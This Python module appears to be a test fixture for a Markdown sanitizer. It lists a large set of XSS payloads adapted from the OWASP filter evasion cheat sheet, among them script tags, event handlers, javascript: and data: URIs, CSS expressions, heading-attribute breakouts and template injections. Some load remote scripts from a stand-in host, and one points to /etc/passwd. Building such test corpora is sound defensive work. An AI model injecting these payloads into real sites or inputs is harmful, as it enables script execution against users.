"""Hostile Markdown: the families of the OWASP XSS filter evasion cheat sheet, written the
way an author could type them into a chapter.

Each payload names itself, carries the Markdown, and says what a reader must still see on
the page (`visible`): the escaped tag as text, the text of a dropped link, a heading's
title. Everything that could run script calls `alert`, `confirm` or `prompt` (a dialog is
the proof of execution) and often sets `window.__pwned` as well.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    markdown: str
    visible: str


def _b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


_SCRIPT_PAGE = _b64("<script>window.__pwned=1;alert(1)</script>")
_SVG_PAGE = _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')

# Raw HTML: escaped, it must read as the very text the author typed (entities and
# backslash escapes are decoded by Markdown first, so `visible` is the decoded text).
_RAW = [
    ("script-plain", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", "<ScRiPt>alert(1)</sCrIpT>"),
    (
        "script-src-protocol-relative",
        "<script src=//xss.example/x.js></script>",
        "<script src=//xss.example/x.js></script>",
    ),
    (
        "script-slash-attribute",
        '<script/xss src="data:text/javascript,alert(1)"></script>',
        '<script/xss src="data:text/javascript,alert(1)">',
    ),
    ("script-double-open", "<<script>alert(1);//<</script>", "<<script>alert(1);//<</script>"),
    ("script-null-in-tag", "<scr\x00ipt>alert(1)</script>", "ipt>alert(1)</script>"),
    (
        "script-split-by-script",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    ("script-space-before-close", "<script >alert(1)</script >", "<script >alert(1)</script >"),
    (
        "script-sets-flag",
        '<script type="text/javascript">window.__pwned=1;alert(1)</script>',
        '<script type="text/javascript">window.__pwned=1;alert(1)</script>',
    ),
    (
        "script-fromcharcode",
        "<script>alert(String.fromCharCode(88,83,83))</script>",
        "alert(String.fromCharCode(88,83,83))",
    ),
    (
        "script-html-block",
        "<script>\nwindow.__pwned = 1; alert(1)\n</script>",
        "window.__pwned = 1; alert(1)",
    ),
    ("script-in-div", "<div><script>alert(1)</script></div>", "<div><script>alert(1)</script>"),
    ("script-after-title", "</title><script>alert(1)</script>", "</title><script>"),
    ("script-after-textarea", "</textarea><script>alert(1)</script>", "</textarea><script>"),
    ("script-after-quote", '"><script>alert(1)</script>', '"><script>alert(1)</script>'),
    ("script-unclosed", "<script>alert(1)//", "<script>alert(1)//"),
    (
        "script-src-odd-tag",
        "<SCRIPT SRC=http://xss.example/xss.js?< B >",
        "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    ),
    (
        "script-entities-in-body",
        "<script>alert&#40;1&#41;</script>",
        "<script>alert(1)</script>",
    ),
    (
        "script-as-entities",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<script>alert(1)</script>",
    ),
    ("script-backslash-escaped", r"\<script>alert(1)\</script>", "<script>alert(1)</script>"),
    (
        "script-gt-in-attribute",
        '<SCRIPT a=">" SRC="httx://xss.example/xss.js"></SCRIPT>',
        'SRC="httx://xss.example/xss.js"',
    ),
    ("script-emphasis-around", "*<script>*alert(1)*</script>*", "alert(1)"),
    (
        "script-conditional-comment",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    ),
    (
        "script-cdata",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<![CDATA[<script>alert(1)</script>]]>",
    ),
    (
        "script-between-comments",
        "<!-- --><script>alert(1)</script><!-- -->",
        "<!-- --><script>alert(1)</script><!-- -->",
    ),
    (
        "script-in-template",
        "<template><script>alert(1)</script></template>",
        "<template><script>alert(1)</script></template>",
    ),
    (
        "script-noscript-mutation",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    (
        "script-zero-width-in-name",
        "<scr\u200bipt>alert(1)</script>",
        "ipt>alert(1)</script>",
    ),
    (
        "script-rtl-override",
        "\u202e<script>alert(1)</script>",
        "<script>alert(1)</script>",
    ),
]

# Event handlers on every element that fires one without a click.
_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    (
        "img-onmouseover-upper",
        '<IMG SRC=# onmouseover="alert(1)">',
        '<IMG SRC=# onmouseover="alert(1)">',
    ),
    (
        "img-onerror-sets-flag",
        '<img src=/ onerror="window.__pwned=1;alert(1)">',
        '<img src=/ onerror="window.__pwned=1;alert(1)">',
    ),
    (
        "img-no-src-handler",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
    ),
    (
        "img-eval-src",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    ),
    (
        "img-handler-across-lines",
        '<img src="x"\nonerror="alert(1)">',
        'onerror="alert(1)">',
    ),
    (
        "img-quotes-then-script",
        '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
        '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    ),
    ("svg-onload", "<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>", "<body onload=alert(1)>"),
    (
        "details-ontoggle",
        "<details open ontoggle=alert(1)>",
        "<details open ontoggle=alert(1)>",
    ),
    (
        "video-source-onerror",
        '<video><source onerror="alert(1)"></video>',
        '<video><source onerror="alert(1)"></video>',
    ),
    ("audio-onerror", "<audio src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>"),
    (
        "input-autofocus",
        "<input autofocus onfocus=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
    ),
    (
        "select-autofocus",
        "<select autofocus onfocus=confirm(1)>",
        "<select autofocus onfocus=confirm(1)>",
    ),
    (
        "textarea-autofocus",
        "<textarea autofocus onfocus=prompt(1)>",
        "<textarea autofocus onfocus=prompt(1)>",
    ),
    (
        "marquee-onstart",
        "<marquee onstart=alert(1)>x</marquee>",
        "<marquee onstart=alert(1)>x</marquee>",
    ),
    (
        "div-covering-onmouseover",
        '<div style="position:fixed;inset:0" onmouseover=alert(1)>',
        '<div style="position:fixed;inset:0" onmouseover=alert(1)>',
    ),
    (
        "anchor-onclick",
        '<a href="#" onclick="alert(1)">click</a>',
        '<a href="#" onclick="alert(1)">click</a>',
    ),
    (
        "isindex-onerror",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
    ),
    (
        "svg-animate-onbegin",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ),
    (
        "math-mtext-img",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    ),
    (
        "handler-with-markdown-inside",
        "<img src=x onerror=alert(1)//**bold**>",
        "<img src=x onerror=alert(1)//bold>",
    ),
]

# Elements that load or frame another document, change the base, refresh, or submit.
_ELEMENTS = [
    (
        "iframe-javascript",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe src="javascript:alert(1)"></iframe>',
    ),
    (
        "iframe-srcdoc",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    (
        "iframe-srcdoc-entities",
        '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
        '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
    ),
    (
        "frameset-javascript",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<FRAME SRC=\"javascript:alert('XSS');\">",
    ),
    (
        "object-javascript",
        '<object data="javascript:alert(1)"></object>',
        '<object data="javascript:alert(1)"></object>',
    ),
    (
        "object-scriptlet",
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
        '<OBJECT TYPE="text/x-scriptlet"',
    ),
    (
        "embed-javascript",
        '<embed src="javascript:alert(1)">',
        '<embed src="javascript:alert(1)">',
    ),
    (
        "embed-svg-data",
        f'<EMBED SRC="data:image/svg+xml;base64,{_SVG_PAGE}" type="image/svg+xml">',
        'type="image/svg+xml">',
    ),
    (
        "meta-refresh-javascript",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    ),
    (
        "meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{_SCRIPT_PAGE}">',
        '<meta http-equiv="refresh"',
    ),
    (
        "meta-link-stylesheet",
        '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
        "REL=stylesheet",
    ),
    (
        "base-javascript",
        '<base href="javascript:alert(1);//">',
        '<base href="javascript:alert(1);//">',
    ),
    (
        "form-action-javascript",
        '<form action="javascript:alert(1)"><input type="submit"></form>',
        '<form action="javascript:alert(1)"><input type="submit"></form>',
    ),
    (
        "button-formaction",
        '<button formaction="javascript:alert(1)">go</button>',
        '<button formaction="javascript:alert(1)">go</button>',
    ),
    (
        "link-stylesheet-javascript",
        '<link rel="stylesheet" href="javascript:alert(1);">',
        '<link rel="stylesheet" href="javascript:alert(1);">',
    ),
    (
        "raw-anchor-javascript",
        '<a href="javascript:alert(1)">raw anchor</a>',
        '<a href="javascript:alert(1)">raw anchor</a>',
    ),
    (
        "raw-anchor-tab-entity",
        '<a href="jav&#x09;ascript:alert(1)">tabbed anchor</a>',
        "tabbed anchor</a>",
    ),
    (
        "raw-anchor-colon-entity",
        '<a href="javascript&colon;alert(1)">named colon anchor</a>',
        '<a href="javascript:alert(1)">named colon anchor</a>',
    ),
    (
        "raw-img-decimal-entities",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<IMG SRC=javascript:alert(1)>",
    ),
    (
        "raw-img-newline-entity",
        '<IMG SRC="jav&#x0A;ascript:alert(1);">',
        'ascript:alert(1);">',
    ),
    (
        "raw-img-backtick-quoted",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "javascript:alert(\"RSnake says, 'XSS'\")",
    ),
    (
        "raw-img-dynsrc-lowsrc",
        "<IMG DYNSRC=\"javascript:alert('XSS')\" LOWSRC=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\"",
    ),
    (
        "raw-body-background",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    ),
    (
        "raw-table-background",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    ),
    (
        "raw-bgsound",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    ),
    (
        "raw-br-size-js-entity",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
    ),
    (
        "svg-script",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert(1)</script></svg>",
    ),
    (
        "svg-xlink-javascript",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
        '<a xlink:href="javascript:alert(1)">',
    ),
    (
        "svg-use-data",
        f'<svg><use href="data:image/svg+xml;base64,{_SVG_PAGE}#x"/></svg>',
        "<svg><use href=",
    ),
    (
        "xml-comment-split-scheme",
        '<xml><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml>',
        '<img src="javas<!-- -->cript:alert(1)">',
    ),
]

# Style: expressions, bindings, imports and url(javascript:).
_STYLES = [
    (
        "style-import-javascript",
        "<style>@import 'javascript:alert(1)';</style>",
        "<style>@import 'javascript:alert(1)';</style>",
    ),
    (
        "style-import-remote",
        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
        "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    ),
    (
        "style-list-image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "li {list-style-image: url(\"javascript:alert('XSS')\");}",
    ),
    (
        "style-moz-binding",
        '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
        '-moz-binding:url("http://xss.example/xssmoz.xml#xss")',
    ),
    (
        "style-attribute-url",
        '<div style="background-image: url(javascript:alert(1))">',
        '<div style="background-image: url(javascript:alert(1))">',
    ),
    (
        "style-attribute-expression",
        '<div style="width: expression(alert(1));">',
        '<div style="width: expression(alert(1));">',
    ),
    (
        "style-attribute-commented-expression",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        "<IMG STYLE=\"xss:expr/XSS/ession(alert('XSS'))\">",
    ),
    (
        "style-behavior",
        '<XSS STYLE="behavior: url(xss.htc);">',
        '<XSS STYLE="behavior: url(xss.htc);">',
    ),
    (
        "style-css-escapes",
        r"<DIV STYLE=\"background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073"
        r"\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028\0031\0029'\0029\">",
        r"\0075\0072\006C\0028",
    ),
    (
        "style-link-remote",
        '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
        '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
    ),
]

# Markdown links and images whose destination is a script, spelled every way a browser
# still reads as `javascript:` (or another scheme outside http, https and mailto).
_LINKS = [
    ("link-javascript", "javascript:alert(1)"),
    ("link-javascript-upper", "JAVASCRIPT:alert(1)"),
    ("link-javascript-mixed-case", "JaVaScRiPt:alert(1)"),
    ("link-javascript-sets-flag", "javascript:window.__pwned=1;alert(1)"),
    ("link-javascript-pointy", "<javascript:alert(1)>"),
    ("link-javascript-pointy-spaces", "<  javascript:alert(1)>"),
    ("link-javascript-leading-spaces", "   javascript:alert(1)   "),
    ("link-colon-decimal-entity", "javascript&#58;alert(1)"),
    ("link-colon-hex-entity", "javascript&#x3A;alert(1)"),
    ("link-colon-named-entity", "javascript&colon;alert(1)"),
    ("link-mixed-case-colon-entity", "jAvAsCrIpT&#58;alert(1)"),
    ("link-partial-entity", "java&#115;cript:alert(1)"),
    (
        "link-all-decimal-entities",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    ),
    (
        "link-padded-decimal-entities-no-semicolon",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
        "&#0000112&#0000116&#0000058alert(1)",
    ),
    (
        "link-padded-decimal-entities",
        "&#0000106;&#0000097;&#0000118;&#0000097;&#0000115;&#0000099;&#0000114;&#0000105;"
        "&#0000112;&#0000116;&#0000058;alert(1)",
    ),
    (
        "link-hex-entities-no-semicolon",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    ),
    ("link-padded-hex-entity", "&#x0006A;avascript:alert(1)"),
    ("link-tab-entity", "jav&#x09;ascript:alert(1)"),
    ("link-tab-entity-decimal", "jav&#9;ascript:alert(1)"),
    ("link-newline-entity", "jav&#x0A;ascript:alert(1)"),
    ("link-carriage-return-entity", "jav&#x0D;ascript:alert(1)"),
    ("link-leading-space-entity", "&#x20;javascript:alert(1)"),
    ("link-leading-control-entity", "&#14;javascript:alert(1)"),
    ("link-leading-null-entity", "&#0;javascript:alert(1)"),
    ("link-pointy-tab", "<java\tscript:alert(1)>"),
    ("link-backslash-colon", r"javascript\:alert(1)"),
    ("link-backslash-in-scheme", r"java\script:alert(1)"),
    ("link-percent-colon", "javascript%3Aalert(1)"),
    ("link-percent-letter", "%6Aavascript:alert(1)"),
    ("link-percent-newline-in-scheme", "java%0ascript:alert(1)"),
    ("link-comment-newline", "javascript://%0Aalert(1)"),
    ("link-javascript-then-http", "javascript:alert(1)//http://example.org"),
    ("link-percent-encoded-call", "javascript:alert%281%29"),
    ("link-unicode-escape-in-body", r"javascript:\u0061lert(1)"),
    ("link-fullwidth-scheme", "ｊａｖａｓｃｒｉｐｔ:alert(1)"),
    ("link-cyrillic-i", "javascrіpt:alert(1)"),
    ("link-line-separator", "\u2028javascript:alert(1)"),
    ("link-vbscript", "vbscript:msgbox(1)"),
    ("link-vbscript-mixed-case", "VBScript:MsgBox(1)"),
    ("link-livescript", "livescript:alert(1)"),
    ("link-data-html", "data:text/html,<script>alert(1)</script>"),
    ("link-data-html-base64", f"data:text/html;base64,{_SCRIPT_PAGE}"),
    ("link-data-svg-base64", f"data:image/svg+xml;base64,{_SVG_PAGE}"),
    ("link-data-upper", f"DATA:text/html;base64,{_SCRIPT_PAGE}"),
    ("link-file", "file:///etc/passwd"),
    ("link-cross-reference-javascript", "javascript:alert(1)#purpose"),
    ("link-cross-reference-comment", "javascript:alert(1)//manual-clearance#scope"),
    ("link-javascript-with-title", 'javascript:alert(1) "Open the manual"'),
]

_IMAGES = [
    ("image-javascript", "javascript:alert(1)"),
    ("image-javascript-mixed-case-title", 'JaVaScRiPt:alert(1) "t"'),
    ("image-data-svg", f"data:image/svg+xml;base64,{_SVG_PAGE}"),
    ("image-data-gif", "data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    ("image-vbscript", "vbscript:msgbox(1)"),
    ("image-src-quote-breakout", 'https://example.org/x.png" onerror="alert(1)'),
]


def _link(name: str, destination: str) -> tuple[str, str, str]:
    text = f"Manual {name}"
    return name, f"See [{text}]({destination}) for details.", text


def _image(name: str, destination: str) -> tuple[str, str, str]:
    text = f"Diagram {name}"
    return name, f"![{text}]({destination})", text


# Reference-style links, autolinks and link titles.
_REFERENCES = [
    (
        "reference-javascript",
        "Read [the manual][ref-js-a].\n\n[ref-js-a]: javascript:alert(1)",
        "the manual",
    ),
    (
        "reference-shortcut-upper-with-title",
        '[ref-js-b] applies.\n\n[ref-js-b]: JAVASCRIPT:alert(1) "Clearance"',
        "ref-js-b",
    ),
    (
        "reference-collapsed-pointy",
        "[ref-js-c][] applies.\n\n[ref-js-c]: <javascript:alert(1)>",
        "ref-js-c",
    ),
    (
        "reference-entity-colon",
        "[Marking][ref-js-d] applies.\n\n[ref-js-d]: javascript&#58;alert(1)",
        "Marking",
    ),
    (
        "reference-image",
        "![Sign drawing][ref-js-e]\n\n[ref-js-e]: javascript:alert(1)",
        "Sign drawing",
    ),
    (
        "reference-data-html",
        f"[Briefing][ref-js-f] first.\n\n[ref-js-f]: data:text/html;base64,{_SCRIPT_PAGE}",
        "Briefing",
    ),
    ("autolink-javascript", "<javascript:alert(1)>", "javascript:alert(1)"),
    ("autolink-javascript-upper", "<JAVASCRIPT:alert(1)>", "JAVASCRIPT:alert(1)"),
    ("autolink-vbscript", "<vbscript:msgbox(1)>", "vbscript:msgbox(1)"),
    (
        "autolink-data-base64",
        f"<data:text/html;base64,{_SCRIPT_PAGE}>",
        f"data:text/html;base64,{_SCRIPT_PAGE}",
    ),
    ("autolink-entity-colon", "<javascript&#58;alert(1)>", "alert(1)"),
    (
        "autolink-javascript-email-shape",
        "<javascript:alert(1)@example.org>",
        "javascript:alert(1)@example.org",
    ),
    (
        "title-double-quote-breakout",
        '[Clearance lanes](https://example.org "a\\" onmouseover=\\"alert(1)")',
        "Clearance lanes",
    ),
    (
        "title-single-quoted-with-double-quotes",
        "[Marking posts](https://example.org 'x\" onmouseover=\"alert(1)')",
        "Marking posts",
    ),
    (
        "title-script",
        '[Safety distances](https://example.org "<script>alert(1)</script>")',
        "Safety distances",
    ),
    (
        "url-quote-breakout",
        '[Medical support](https://example.org" onmouseover="alert(1))',
        "Medical support",
    ),
    (
        "url-tag-breakout",
        '[Casualty drill](https://example.org/"><script>alert(1)</script>)',
        "Casualty drill",
    ),
    (
        "url-in-site-quote-breakout",
        '[Scope](#scope" onclick="alert(1))',
        "Scope",
    ),
    (
        "link-text-raw-html",
        "[<img src=x onerror=alert(1)>](https://example.org)",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "image-inside-javascript-link",
        "[Badge ![icon](https://example.org/b.png)](javascript:alert(1))",
        "Badge",
    ),
    (
        "mailto-with-script-body",
        "[Write to QA](mailto:qa@example.org?body=<script>alert(1)</script>)",
        "Write to QA",
    ),
    (
        "https-with-javascript-query",
        "[Search](https://example.org/?q=javascript:alert(1))",
        "Search",
    ),
]

# Heading attributes: only `#anchor` and our known keys may come through, and as data.
_HEADINGS = [
    ("heading-onclick", "## Heading onclick {#hx-a onclick=alert(1)}", "Heading onclick"),
    (
        "heading-many-attributes",
        '## Heading many {#hx-b onclick="alert(1)" class="x" '
        'style="background:url(javascript:alert(1))" data-x=y}',
        "Heading many",
    ),
    (
        "heading-anchor-breakout-script",
        '## Heading breakout {#"><script>alert(1)</script>}',
        "Heading breakout",
    ),
    (
        "heading-anchor-breakout-quote",
        '## Heading quote {#hx-c" onmouseover="alert(1)}',
        "Heading quote",
    ),
    (
        "heading-autofocus",
        '## Heading focus {#hx-d imas="09.10#6.2" onfocus=alert(1) autofocus tabindex=1}',
        "Heading focus",
    ),
    (
        "heading-imas-markup",
        '## Heading imas {#hx-e imas="><img src=x onerror=alert(1)>" relation=stricter}',
        "Heading imas",
    ),
    (
        "heading-justification-script",
        '## Heading justified {#hx-f relation=deviates justification="<script>alert(1)</script>"}',
        "Heading justified",
    ),
    (
        "heading-relation-quote",
        '## Heading relation {#hx-g relation=x"onmouseover=alert(1)}',
        "Heading relation",
    ),
    ("heading-class-style", '## Heading style {.cls #hx-h style="color:red"}', "Heading style"),
    ("heading-href", "## Heading href {#hx-i href=javascript:alert(1)}", "Heading href"),
    ("heading-id-override", "## Heading id {#hx-j id=evil onclick=alert(1)}", "Heading id"),
    (
        "heading-javascript-anchor",
        "## Heading js anchor {#javascript:alert(1)}",
        "Heading js anchor",
    ),
    (
        "heading-data-prefixed",
        "## Heading data {#hx-k data-imas=x onpointerover=alert(1)}",
        "Heading data",
    ),
    (
        "heading-srcdoc-formaction",
        '## Heading frame {#hx-l srcdoc="<script>alert(1)</script>" '
        "formaction=javascript:alert(1)}",
        "Heading frame",
    ),
    ("heading-raw-img", "## <img src=x onerror=alert(1)> {#hx-m}", "<img src=x onerror=alert(1)>"),
    (
        "heading-javascript-link",
        "## [Heading linked](javascript:alert(1)) {#hx-n}",
        "Heading linked",
    ),
    ("heading-double-braces", "## Heading doubled {#hx-o}{onclick=alert(1)}", "Heading doubled"),
    (
        "heading-imas-javascript",
        "### Heading imas js {#hx-p imas=javascript:alert(1) relation=adopts}",
        "Heading imas js",
    ),
    (
        "heading-imas-list-javascript",
        '### Heading imas list {#hx-q relation=adopts imas="09.10#6.2 javascript:alert(1)"}',
        "Heading imas list",
    ),
    (
        "heading-setext-attributes",
        "Heading setext {#hx-r onclick=alert(1)}\n-----------------",
        "Heading setext",
    ),
    (
        "heading-template-in-attribute",
        "## Heading template {#hx-s imas=\"{{constructor.constructor('alert(1)')()}}\"}",
        "Heading template",
    ),
]

# Template syntax of the engines a page might pass through, and other encodings.
_TEXT = [
    (
        "template-angular",
        "{{constructor.constructor('alert(1)')()}}",
        "{{constructor.constructor('alert(1)')()}}",
    ),
    ("template-arithmetic", "Depth is {{7*7}} cm.", "Depth is {{7*7}} cm."),
    ("template-jinja-block", "{% for x in range(3) %}x{% endfor %}", "{% for x in range(3) %}"),
    ("template-jinja-config", "{{ config.items() }}", "{{ config.items() }}"),
    ("template-literal", "${alert(1)}", "${alert(1)}"),
    ("template-ruby", "#{alert(1)}", "#{alert(1)}"),
    ("template-erb", "<%= alert(1) %>", "<%= alert(1) %>"),
    (
        "unicode-escapes-as-text",
        r"\u003cscript\u003ealert(1)\u003c/script\u003e",
        r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    ),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞", "＜script＞alert(1)＜/script＞"),
    (
        "percent-encoded-tag",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    (
        "utf7-tag",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ),
]

# Tables: cells are inline content like any other.
_TABLES = [
    (
        "table-script-cell",
        "| Step | Check |\n|---|---|\n| <script>alert(1)</script> | done |",
        "<script>alert(1)</script>",
    ),
    (
        "table-javascript-link-cell",
        "| Step | Check |\n|---|---|\n| [Cell link](javascript:alert(1)) | done |",
        "Cell link",
    ),
    (
        "table-img-onerror-cell",
        "| Step | Check |\n|---|---|\n| ok | <img src=x onerror=alert(1)> |",
        "<img src=x onerror=alert(1)>",
    ),
    (
        "table-escaped-pipe-in-link",
        "| Step | Check |\n|---|---|\n| [Pipe link](javascript:alert(1)\\|x) | done |",
        "Pipe link",
    ),
    (
        "table-header-payload",
        "| <svg onload=alert(1)> | Check |\n|---|---|\n| a | b |",
        "<svg onload=alert(1)>",
    ),
    (
        "table-alignment-row-attributes",
        '| Step | Check |\n|:---|---:|\n| <td style="x" onclick=alert(1)> | done |',
        '<td style="x" onclick=alert(1)>',
    ),
]

# Code: whatever is inside stays text.
_CODE = [
    ("code-span-script", "`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    (
        "code-span-double-backticks",
        "``<img src=x onerror=alert(1)> ` ``",
        "<img src=x onerror=alert(1)> `",
    ),
    (
        "fenced-html",
        "```html\n<script>window.__pwned=1;alert(1)</script>\n```",
        "<script>window.__pwned=1;alert(1)</script>",
    ),
    (
        "fenced-info-breakout",
        '```"><script>alert(1)</script>\nfenced body one\n```',
        "fenced body one",
    ),
    ("fenced-info-handler", "```js onload=alert(1)\nfenced body two\n```", "fenced body two"),
    ("fenced-tilde", "~~~\n<img src=x onerror=alert(1)>\n~~~", "<img src=x onerror=alert(1)>"),
    (
        "indented-code",
        'Before the code:\n\n    <iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    ),
    (
        "code-in-link-text",
        "[`<script>alert(1)</script>`](javascript:alert(1))",
        "<script>alert(1)</script>",
    ),
]


PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(name, markdown, visible)
    for name, markdown, visible in [
        *_RAW,
        *_HANDLERS,
        *_ELEMENTS,
        *_STYLES,
        *(_link(name, destination) for name, destination in _LINKS),
        *(_image(name, destination) for name, destination in _IMAGES),
        *_REFERENCES,
        *_HEADINGS,
        *_TEXT,
        *_TABLES,
        *_CODE,
    ]
)
